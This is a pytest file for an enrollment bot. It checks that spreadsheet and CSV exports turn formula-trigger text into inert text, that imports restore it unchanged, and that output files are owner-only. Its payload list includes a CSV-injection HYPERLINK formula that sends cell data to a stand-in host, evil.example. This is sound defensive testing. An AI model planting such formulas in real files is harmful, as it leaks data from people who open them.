"""Exports are safe to open and private: text that a spreadsheet would run as a formula (= + - @ tab CR ＝ …) is
written as text in every export, XLSX and CSV; every importer takes the neutralising prefix off again, so a file
exported and imported unchanged stays unchanged; files are written owner-only (0600)."""
from __future__ import annotations

import csv
import io
import stat
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from bot.cli import build_parser
from catalog import enrollment as svc
from catalog.cells import TRIGGERS, neutralise, restore
from catalog.imports import read_table
from catalog.roster_files import write_csv
from db.access import Actor
from db.models import Course, Profile, User
from db.session import session_scope
from notifications.broadcasts.service import create_broadcast
from notifications.exams.imports import read_table as read_exam_table
from tests.handlers.enrollment.factory import NOW, add_course, add_people

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&D3,"자세히")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=already quoted", "''+twice"]


async def _run(argv, monkeypatch, db):
    monkeypatch.setenv("HRDBOT_DATABASE_URL", db.url)
    monkeypatch.setenv("HRDBOT_NOW", "2022-01-03T09:00")
    args = build_parser().parse_args(argv)
    return await args.func(args)


def test_the_payload_list_covers_every_dangerous_first_character():
    assert {p.lstrip("'")[0] for p in PAYLOADS} == set(TRIGGERS)


@pytest.mark.parametrize("value", PAYLOADS + ["김서울", "'quoted", "", "a=b", 42])
def test_neutralise_then_restore_is_the_identity_and_never_starts_a_formula(value):
    out = neutralise(value)
    assert restore(out) == value
    if isinstance(out, str) and out:
        assert out[0] not in TRIGGERS


async def _hostile_data(db) -> None:
    (cohort_id,) = await add_course(db, capacity=len(PAYLOADS) + 1, approval="staff")
    ids = list(range(4101, 4101 + len(PAYLOADS)))
    await add_people(db, ids)
    async with session_scope(db.sessionmaker) as s:
        for uid, payload in zip(ids, PAYLOADS):
            (await s.get(Profile, uid)).full_name = payload
            (await s.get(Profile, uid)).department = payload
            (await s.get(User, uid)).first_name = payload
            request = await svc.request_seat(s, user_id=uid, cohort_id=cohort_id, now=NOW)
            await svc.reject(s, enrollment_id=request.enrollment_id, actor=Actor.operator("t"), now=NOW,
                             reason=payload)
        await create_broadcast(s, actor=Actor.operator("t"), text=PAYLOADS[0], audience={"kind": "everyone"},
                               now=NOW)


def _cells(path) -> list:
    if path.suffix == ".xlsx":
        return [v for row in load_workbook(path).active.iter_rows(values_only=True) for v in row]
    return [v for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))) for v in row]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
async def test_every_export_writes_hostile_text_as_text_owner_only(db, tmp_path, monkeypatch, fmt):
    await _hostile_data(db)
    exports = {"enrollments": ["--course", "enr-test"], "subscribers": [], "broadcasts": []}
    for what, extra in exports.items():
        target = tmp_path / f"{what}.{fmt}"
        assert await _run(["export", what, *extra, f"--{fmt}", str(target)], monkeypatch, db) == 0
        assert stat.S_IMODE(target.stat().st_mode) == 0o600
        texts = [v for v in _cells(target) if isinstance(v, str)]
        assert not [v for v in texts if v[:1] in TRIGGERS], (what, fmt)
        if fmt == "xlsx":
            with zipfile.ZipFile(target) as z:
                sheet = z.read("xl/worksheets/sheet1.xml")
            assert b"<f>" not in sheet and b"<f " not in sheet  # no formula cell at all
        if what == "enrollments":
            def same(v):  # XML itself turns a carriage return into a line feed
                return v.replace("\r", "\n") if fmt == "xlsx" else v

            assert {same(restore(v)) for v in texts} >= {same(p) for p in PAYLOADS}  # all there, only made inert


def _xlsx(rows) -> bytes:
    wb = Workbook()
    for row in rows:
        wb.active.append([neutralise(v) for v in row])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_every_importer_reads_an_exported_cell_back_unchanged(fmt):
    rows = [["id", "title", "place"], *[[f"c{i}", p, p] for i, p in enumerate(PAYLOADS)]]
    content = _xlsx(rows) if fmt == "xlsx" else write_csv(rows)
    expected = [p.replace("\r", "\n") for p in PAYLOADS] if fmt == "xlsx" else PAYLOADS  # XML turns CR into LF
    catalog = read_table(f"x.{fmt}", content)
    assert [r["title"] for _n, r in catalog.rows] == expected
    exams = read_exam_table(f"x.{fmt}", content)
    assert [r["place"] for _n, r in exams] == expected


async def test_a_course_title_survives_export_then_import(db):
    title = "=1+1 엑셀 수식 입문"
    content = write_csv([["id", "title", "category", "topic", "delivery"],
                         ["formula-101", title, "일반교육/직무역량/IT", "it", "online"]])
    from catalog.imports import import_file

    async with session_scope(db.sessionmaker) as s:
        assert (await import_file(s, "c.csv", content, NOW, actor=Actor.operator("t"))).applied
    async with db.sessionmaker() as s:
        assert (await s.execute(select(Course.title).where(Course.id == "formula-101"))).scalar_one() == title


def test_the_sqlite_database_file_is_owner_only(tmp_path):
    from db.session import make_engine

    path = tmp_path / "new.db"
    make_engine(f"sqlite+aiosqlite:///{path}")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
